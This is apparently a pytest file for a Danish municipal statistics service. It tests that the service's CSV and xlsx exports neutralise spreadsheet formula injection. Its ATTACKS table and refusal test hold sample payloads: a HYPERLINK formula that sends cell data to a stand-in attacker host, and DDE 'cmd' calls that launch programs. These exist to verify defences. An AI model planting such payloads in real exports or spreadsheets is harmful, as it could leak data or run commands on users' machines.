"""The attacker who gets text into the marts (a key figure's title, an area's name, a unit, a definition) cannot
make a spreadsheet run it: no downloaded cell — CSV or xlsx, export bundle or API — is a formula or text starting
with a character a spreadsheet evaluates (OWASP's CSV-injection advice: = + - @ tab carriage return). Numbers stay
numbers, negative ones too."""
from __future__ import annotations

import csv
import io
import re
import uuid
import zipfile

import duckdb
import pytest
from openpyxl import load_workbook

from kdk.cli import main

LIVE = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"-?\d+(,\d+)?")   # a number as the CSV writes it (decimal comma)
FIGURES = "skole.karakter,befolkning.udvikling_5aar"
ATTACKS = {
    "titel": '=HYPERLINK("http://angriber.example/?d="&A2;"Klik her")',
    "kommune": "+SUM(1+1)*cmd|' /C calc'!A0",
    "enhed": "@SUM(1+1)",
    "definition": "-2+3+cmd|' /C calc'!A0",
    "dataomraade": "\t=1+1",
    "region": "\r=1+1",
}


def edited_copy(fresh_marts, monkeypatch) -> duckdb.DuckDBPyConnection:
    """A writable connection to `fresh_marts`, moved to a new file name (a new release to every cache, so no
    answer kept from the real marts is reused) and served by the app; the caller closes it."""
    link = fresh_marts.marts_path
    target = link.resolve().rename(link.resolve().with_name(f"rettet-{uuid.uuid4().hex[:8]}-{link.resolve().name}"))
    link.unlink()
    link.symlink_to(target)
    monkeypatch.setenv("KDK_MARTS", str(link))
    return duckdb.connect(str(target))


@pytest.fixture
def attacked(fresh_marts, monkeypatch):
    """A copy of the marts with attacker text in titles, names and units, and a year with negative values."""
    con = edited_copy(fresh_marts, monkeypatch)
    con.execute("UPDATE dim_noegletal SET titel = $titel, enhed = $enhed, definition = $definition "
                "WHERE noegletal_id = 'skole.karakter'", {k: ATTACKS[k] for k in ("titel", "enhed", "definition")})
    con.execute("UPDATE dim_kommune SET navn = ? WHERE kommunekode = '101'", [ATTACKS["kommune"]])
    con.execute("UPDATE dim_dataomraade SET navn = ? WHERE kode = 'skole'", [ATTACKS["dataomraade"]])
    con.execute("UPDATE dim_region SET navn = ? WHERE regionskode = '1084'", [ATTACKS["region"]])
    year = con.execute("SELECT max(periode) FROM fct_noegletal WHERE noegletal_id = 'befolkning.udvikling_5aar' "
                       "AND vaerdi < 0 AND status = 'normal'").fetchone()[0]
    con.close()
    return fresh_marts, year


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def assert_inert_csv(data: bytes) -> list[list[str]]:
    rows = csv_cells(data)
    for row in rows:
        for cell in row:
            assert not cell.startswith(LIVE) or NUMBER.fullmatch(cell), (cell, row)
    return rows


def assert_inert_xlsx(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    numbers = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(LIVE), (sheet.title, cell.coordinate, cell.value)
                elif isinstance(cell.value, float | int):
                    numbers.append(cell.value)
    return numbers


def assert_attacks_kept_as_text(rows: list[list[str]]) -> None:
    """The attacker's text is still there, readable, just not live: the cell is the text behind a quote."""
    cells = {cell for row in rows for cell in row}
    for text in (ATTACKS["titel"], ATTACKS["kommune"], ATTACKS["enhed"], ATTACKS["dataomraade"], ATTACKS["region"]):
        assert "'" + text in cells, text


def test_api_csv_and_xlsx_carry_no_live_formula(attacked, client):
    _, year = attacked
    url = f"/api/v1/data?noegletal={FIGURES}&kommune=101,147,1084,000&periode={year}"
    rows = assert_inert_csv(client.get(url).data)
    assert_attacks_kept_as_text(rows)
    content = rows[0].index("INDHOLD")
    assert any(r[content].startswith("-") for r in rows[1:])          # a negative number is written as a number
    numbers = assert_inert_xlsx(client.get(url + "&format=xlsx").data)
    assert any(v < 0 for v in numbers)
    catalogue = assert_inert_csv(client.get("/api/v1/noegletal").data)
    assert "'" + ATTACKS["definition"] in {cell for row in catalogue for cell in row}


def test_export_bundle_csv_and_xlsx_carry_no_live_formula(attacked, tmp_path):
    marts, year = attacked
    release = duckdb.connect(str(marts.marts_path), read_only=True).execute(
        "SELECT release_id FROM release").fetchone()[0]
    assert main(["export", "--release", release, "--out", str(tmp_path), "--format", "csv,xlsx",
                 "--noegletal", FIGURES, "--perioder", year]) == 0
    archive = zipfile.ZipFile(tmp_path / f"kdk-release-{release}.zip")
    assert_attacks_kept_as_text(assert_inert_csv(archive.read("noegletal.csv")))
    assert any(v < 0 for v in assert_inert_xlsx(archive.read("noegletal.xlsx")))


def test_an_api_refusal_that_repeats_the_callers_text_is_one_inert_cell(client):
    """A link an attacker sends: the 400's message repeats the unknown id, `;` and line breaks included."""
    refused = client.get('/api/v1/data?noegletal=x;=HYPERLINK("http://angriber.example");%0D%0A=1%2B1')
    assert refused.status_code == 400
    rows = assert_inert_csv(refused.data)
    assert rows[0] == ["FEJL"] and len(rows) == 2 and len(rows[1]) == 1 and rows[1][0].startswith("Ukendt nøgletal")
